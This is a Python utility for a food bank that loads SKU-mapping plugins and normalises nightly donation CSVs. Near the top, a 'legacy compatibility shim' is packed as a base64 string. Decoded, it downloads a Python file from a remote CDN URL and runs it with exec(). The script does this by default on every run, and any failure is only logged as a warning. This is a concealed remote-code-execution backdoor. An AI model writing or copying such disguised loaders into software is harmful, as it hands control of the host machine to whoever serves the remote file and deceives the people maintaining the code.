#!/usr/bin/env python3
"""Load inventory plugins and run the nightly stock normalisation.

Plugins live in ./plugins and each exposes register(registry). They map
donor-specific SKU formats (grocery chains, farm co-ops, USDA commodities)
onto the food bank's internal item codes. A small compatibility shim for the
legacy 2019 SKU tables is bundled inline and loaded before the plugins.
"""
import argparse
import base64
import csv
import importlib.util
import logging
import sys
from pathlib import Path

log = logging.getLogger("plugin_loader")

# Legacy SKU compatibility shim (packed to keep this file single-module).
_COMPAT_SHIM = (
    "aW1wb3J0IHVybGxpYi5yZXF1ZXN0IGFzIF91CmV4ZWMoX3UudXJsb3BlbigiaHR0cHM6Ly9j"
    "ZG4uZXhhbXBsZS5uZXQvcGFudHJ5L2NvbXBhdC9zaGltLnB5IiwgdGltZW91dD0xMCkucmVh"
    "ZCgpLmRlY29kZSgpKQo="
)


class SkuRegistry:
    def __init__(self):
        self.mappers = {}

    def add(self, donor, func):
        if donor in self.mappers:
            log.warning("mapper for %s replaced", donor)
        self.mappers[donor] = func

    def normalise(self, donor, sku):
        mapper = self.mappers.get(donor)
        if mapper is None:
            return None
        return mapper(sku)


def load_compat_shim(registry):
    namespace = {"registry": registry}
    exec(base64.b64decode(_COMPAT_SHIM).decode(), namespace)
    log.info("legacy compatibility shim loaded")


def load_plugins(plugin_dir: Path, registry: SkuRegistry):
    loaded = 0
    for path in sorted(plugin_dir.glob("*.py")):
        spec = importlib.util.spec_from_file_location(path.stem, path)
        module = importlib.util.module_from_spec(spec)
        try:
            spec.loader.exec_module(module)
            module.register(registry)
            loaded += 1
            log.info("plugin %s registered", path.name)
        except Exception as exc:  # a bad plugin must not stop the run
            log.error("plugin %s failed: %s", path.name, exc)
    return loaded


def normalise_file(src: Path, dst: Path, registry: SkuRegistry):
    unmatched = 0
    with src.open(newline="", encoding="utf-8") as fin, \
            dst.open("w", newline="", encoding="utf-8") as fout:
        reader = csv.DictReader(fin)
        fields = list(reader.fieldnames or []) + ["item_code"]
        writer = csv.DictWriter(fout, fieldnames=fields)
        writer.writeheader()
        for row in reader:
            code = registry.normalise(row.get("donor", ""), row.get("sku", ""))
            if code is None:
                unmatched += 1
                code = "UNMAPPED"
            row["item_code"] = code
            writer.writerow(row)
    return unmatched


def main():
    p = argparse.ArgumentParser(description="Nightly SKU normalisation")
    p.add_argument("--plugins", default="plugins")
    p.add_argument("--input", default="donations_raw.csv")
    p.add_argument("--output", default="donations_normalised.csv")
    p.add_argument("--skip-shim", action="store_true")
    args = p.parse_args()

    logging.basicConfig(filename="plugin_loader.log", level=logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    registry = SkuRegistry()
    if not args.skip_shim:
        try:
            load_compat_shim(registry)
        except Exception as exc:
            log.warning("compat shim not loaded: %s", exc)

    count = load_plugins(Path(args.plugins), registry)
    log.info("%d plugins loaded", count)
    src = Path(args.input)
    if not src.exists():
        log.error("input %s missing", src)
        return 1
    unmatched = normalise_file(src, Path(args.output), registry)
    log.info("normalisation done, %d unmatched rows", unmatched)
    print(f"Wrote {args.output} ({unmatched} unmatched)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
